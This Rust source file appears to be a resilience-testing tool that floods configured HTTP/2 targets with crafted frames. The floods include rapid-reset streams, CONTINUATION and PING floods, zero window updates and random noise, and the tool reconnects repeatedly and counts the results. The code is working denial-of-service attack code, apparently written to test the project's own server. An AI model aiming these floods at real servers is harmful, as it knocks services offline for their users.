//! Connections that abuse HTTP/2: what an attacker without a credential sends, again and again.

use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use anyhow::Result;
use process::lifecycle::Signals;
use rand::{Rng as _, RngExt as _, SeedableRng as _, rngs::StdRng};
use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};

use crate::arguments::AbuseArgs;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 0x4;
/// A kas closes such a connection within this; otherwise it is closed here, to begin another one.
const LASTS: Duration = Duration::from_secs(20);
/// The pause before the next connection.
const PAUSE: Duration = Duration::from_millis(200);
/// Bytes that one connection sends at most.
const MOST: usize = 256 * 1024;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // Payloads here are far below 2^24 bytes.
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Bytes that are repeated after a beginning.
fn attack(rng: &mut StdRng) -> (Vec<u8>, Vec<u8>) {
    let begin = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    // A POST without a credential, by the static table of HPACK.
    let head = [0x83, 0x84, 0x86];
    let streams = |end: fn(u32) -> Vec<u8>| -> Vec<u8> {
        let numbers = (0..2_000_u32).map(|n| 2 * n + 1);
        numbers.flat_map(|n| [frame(HEADERS, END_HEADERS, n, &head), end(n)].concat()).collect()
    };
    match rng.random_range(0..9) {
        0 => (Vec::new(), Vec::new()),
        1 => (begin, Vec::new()),
        2 => ([begin, streams(|n| frame(RST_STREAM, 0, n, &8_u32.to_be_bytes()))].concat(), Vec::new()),
        3 => ([begin, streams(|n| frame(WINDOW_UPDATE, 0, n, &0_u32.to_be_bytes()))].concat(), Vec::new()),
        4 => ([begin, frame(HEADERS, 0, 1, &head)].concat(), frame(CONTINUATION, 0, 1, &[0; 64])),
        5 => (begin, frame(PING, 0, 0, b"flooding")),
        6 => (begin, frame(SETTINGS, 0, 0, &[])),
        7 => (begin, frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        _ => {
            let mut noise = vec![0; 4096];
            rng.fill_bytes(&mut noise);
            (noise.clone(), noise)
        }
    }
}

#[derive(Default)]
struct Counts {
    opened: AtomicU64,
    cut: AtomicU64,
    sent: AtomicU64,
}

async fn one(target: SocketAddr, rng: &mut StdRng, counts: &Counts) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(target).await?;
    counts.opened.fetch_add(1, Ordering::Relaxed);
    let (begin, again) = attack(rng);
    let (mut read, mut write) = stream.split();
    let sending = async {
        write.write_all(&begin).await?;
        let mut sent = begin.len();
        let many = again.repeat(16);
        while !many.is_empty() && sent < MOST {
            write.write_all(&many).await?;
            sent += many.len();
            tokio::task::yield_now().await;
        }
        counts.sent.fetch_add(sent as u64, Ordering::Relaxed);
        std::future::pending::<std::io::Result<()>>().await
    };
    let reading = async {
        let mut buffer = [0; 4096];
        // A reset is an end, too.
        while read.read(&mut buffer).await.unwrap_or(0) > 0 {}
        counts.cut.fetch_add(1, Ordering::Relaxed);
    };
    // A connection that is cut while it sends ends by the reading half.
    let both = async {
        tokio::select! {
            Err(_) = sending => { counts.cut.fetch_add(1, Ordering::Relaxed); }
            () = reading => {}
        }
    };
    let _ = timeout(LASTS, both).await;
    Ok(())
}

/// Abuses until a signal, and then tells what it did.
pub(crate) fn run(arguments: &AbuseArgs) -> Result<()> {
    process::open_files::raise_limit();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let mut signals = Signals::new()?;
        let counts = Arc::new(Counts::default());
        let mut tasks: JoinSet<()> = JoinSet::new();
        for number in 0..arguments.connections {
            let target = arguments.targets[number % arguments.targets.len()];
            let mut rng = StdRng::seed_from_u64(arguments.seed ^ number as u64);
            let counts = Arc::clone(&counts);
            tasks.spawn(async move {
                loop {
                    // One that is refused is tried again, as an attacker would.
                    let _ = one(target, &mut rng, &counts).await;
                    sleep(PAUSE).await;
                }
            });
        }
        signals.next().await;
        tasks.shutdown().await;
        let get = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        let line =
            json!({ "opened": get(&counts.opened), "cut": get(&counts.cut), "sent": get(&counts.sent) });
        eprintln!("{line}");
        Ok(())
    })
}
